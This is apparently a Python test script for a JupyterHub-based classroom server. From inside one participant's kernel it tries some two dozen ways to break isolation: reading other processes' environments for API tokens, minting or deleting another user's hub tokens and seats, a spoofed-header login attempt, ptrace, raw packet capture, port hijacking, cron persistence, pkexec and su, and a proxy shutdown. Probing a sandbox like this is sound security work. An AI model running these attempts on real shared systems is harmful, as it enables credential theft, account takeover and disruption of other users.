"""Two dozen tries from inside one participant's kernel: prints what each got, as JSON; empty when it failed.

attacker.py tries files, folders and units one by one; here are ways around.
"""

import contextlib
import ctypes
import json
import os
import re
import resource
import socket
import subprocess
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

VICTIM = os.environ["VICTIM"]
PREFIX = os.environ["PREFIX"]
number = VICTIM.removeprefix("seat-")
OWN = (str(Path.home()), f"{PREFIX}/hub/theano/", "/tmp", "/var/tmp", "/dev", "/proc", "/sys")
BY_SSH = """umask 077 && mkdir -p ~/.ssh && cd ~/.ssh && rm -f own own.pub &&
ssh-keygen -q -t ed25519 -N '' -f own && cp own.pub authorized_keys &&
ssh -o StrictHostKeyChecking=no -o BatchMode=yes -i own $USER@127.0.0.1 cat /proc/self/cgroup"""
HUB = "http://127.0.0.1:8085/hub/api"
SPEAKER = "http://127.0.0.1:8444/"


def says(command: str) -> str:
    """Return what a command printed if it succeeded."""
    done = subprocess.run(
        command, shell=True, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL
    )
    return done.stdout.strip()[:200] or "done" if done.returncode == 0 else ""


def limits(what: str) -> str:
    """Set a limit of a unit."""
    return says(f"systemctl --no-ask-password set-property {what}")


def asks(path: str, method: str = "GET") -> str:
    """Ask the hub with the token of one's own server."""
    request = urllib.request.Request(
        HUB + path,
        method=method,
        headers={"Authorization": f"token {os.environ.get('JUPYTERHUB_API_TOKEN') or server_token()}"},
    )
    try:
        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=10) as page:
            return page.read(300).decode() or f"status {page.status}"
    except urllib.error.HTTPError:
        return ""


def logs_in_past_the_proxy() -> str:
    """Type a code at the hub's own port, and make up an address, for which a wrong code would count."""
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({}), urllib.request.HTTPCookieProcessor()
    )
    opener.addheaders = [("X-Forwarded-For", "192.0.2.1"), ("Sec-Fetch-Mode", "navigate")]
    form = HUB.replace("/api", "/login")
    mark = re.search(r'name="_xsrf" value="([^"]+)"', opener.open(form, timeout=10).read().decode())
    words = {"_xsrf": mark[1] if mark else "", "username": number, "password": "A" * 12}
    try:
        opener.open(form, urllib.parse.urlencode(words).encode(), timeout=10)
    except urllib.error.HTTPError as error:
        return "" if "by the classroom" in error.read().decode() else "the code was looked at"
    return "came in"


def server_token() -> str:
    """Return the token in the environment of the seat's server, one's own process."""
    for folder in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            for each in (folder / "environ").read_bytes().split(b"\0"):
                if each.startswith(b"JUPYTERHUB_API_TOKEN="):
                    return each.partition(b"=")[2].decode()
    return ""


def of_others(what: str) -> list[str]:
    """Return which of other processes' files can be read."""
    found = []
    for folder in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if folder.stat().st_uid != os.getuid() and (folder / what).read_bytes():
                found.append(folder.name)
    return found


def writable() -> list[str]:
    """Return every folder and file of others' on disks that this account may write."""
    found = subprocess.run(
        ["find", "/", "-xdev", "(", "-path", "/proc", "-o", "-path", "/sys", ")", "-prune", "-o", "-writable",
         "!", "-type", "l", "-print"],
        capture_output=True, text=True, timeout=300, check=False,
    ).stdout.split("\n")  # fmt: skip
    return [each for each in found if each and not each.startswith(OWN)][:20]


def abstract_sockets() -> list[str]:
    """Return the abstract sockets, which have no folder to protect them, that take a connection."""
    found = []
    names = {line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines() if "@" in line}
    for name in names:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as one:
            one.settimeout(2)
            one.connect("\0" + name.removeprefix("@"))
            found.append(name)
    return found


def less_likely_to_be_killed() -> str:
    """Let another one's process be ended in the place of one's own."""
    Path("/proc/self/oom_score_adj").write_text("-500")
    return "wrote"


def raised_limit() -> str:
    """Have more processes than the seat may."""
    resource.setrlimit(resource.RLIMIT_NPROC, (10**6, 10**6))
    return "raised"


def traces_the_hub() -> str:
    """Attach to another account's process, as a debugger does; one's own are those that can be seen."""
    libc = ctypes.CDLL(None, use_errno=True)
    hidden = [pid for pid in range(1, 4000) if not Path(f"/proc/{pid}").exists()]
    return "attached" if any(libc.ptrace(16, pid, 0, 0) == 0 for pid in hidden) else ""


def raw() -> str:
    """Listen to what all send over the loopback."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
        return "opened"


def takes_port(port: int) -> str:
    """Stand in for hub or proxy while they start anew."""
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        with contextlib.suppress(OSError), socket.socket(family) as listener:
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            listener.bind((address, port))
            listener.listen()
            return f"{address} {port}"
    return ""


TRIES: dict[str, Callable[[], Any]] = {
    "environment of others": lambda: of_others("environ"),
    "memory maps of others": lambda: of_others("maps"),
    "first process's root": lambda: [each.name for each in Path("/proc/1/root/root").iterdir()],
    "another's limits": lambda: limits(f"classroom-seat@{number} CPUQuota=1%"),
    "own limit": lambda: limits("--runtime classroom.slice MemoryMax=infinity"),
    "a manager of one's own": lambda: says("XDG_RUNTIME_DIR=/run/user/$UID systemctl --user status"),
    "lingering": lambda: says("loginctl --no-ask-password enable-linger $USER"),
    "a shell by ssh": lambda: says(BY_SSH),
    "the system's services": lambda: says("busctl --no-pager list"),
    "a job for later": lambda: says("echo '* * * * * id' | crontab -") or says("echo id | at now"),
    "pkexec, su": lambda: says("pkexec id") or says(f"su {VICTIM} -c id"),
    "a namespace of one's own": lambda: says("unshare --user --map-root-user id"),
    "the journal": lambda: says("journalctl --unit=workshop-hub --lines=3 --quiet --no-pager | grep ."),
    "kernel messages": lambda: says("dmesg | grep .") or Path("/dev/kmsg").open().close() or "",
    "the hub's users": lambda: asks("/users") + asks(f"/users/{VICTIM}") + asks("/seats"),
    "another's token": lambda: asks(f"/users/{VICTIM}/tokens", "POST") + asks(f"/users/{VICTIM}/tokens"),
    "another's seat": lambda: (
        asks(f"/seats/{int(number)}/free", "POST") + asks(f"/users/{VICTIM}/server", "DELETE")
    ),
    "the proxy, the end": lambda: asks("/proxy") + asks("/shutdown", "POST"),
    "a log-in past the proxy": logs_in_past_the_proxy,
    "the speaker's view": lambda: urllib.request.urlopen(SPEAKER, timeout=10).read(300).decode(),
    "folders of others": writable,
    "abstract sockets": abstract_sockets,
    "another to be killed first": less_likely_to_be_killed,
    "more processes": raised_limit,
    "a debugger": traces_the_hub,
    "the loopback": raw,
    "containers": lambda: says("ls /run/podman/podman.sock || ls /var/run/docker.sock"),
    "before all others": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) or "real time",
}  # fmt: skip
got = {}
for name, action in TRIES.items():
    try:
        got[name] = action()
    except (OSError, ValueError, subprocess.SubprocessError):
        got[name] = ""
bites = {"port of the hub's": takes_port(8085), "port of the door": takes_port(int(os.environ["DOOR"])),
         "port of the speaker's": takes_port(8444)}  # fmt: skip
print(json.dumps({"got": got, "bites": bites}))
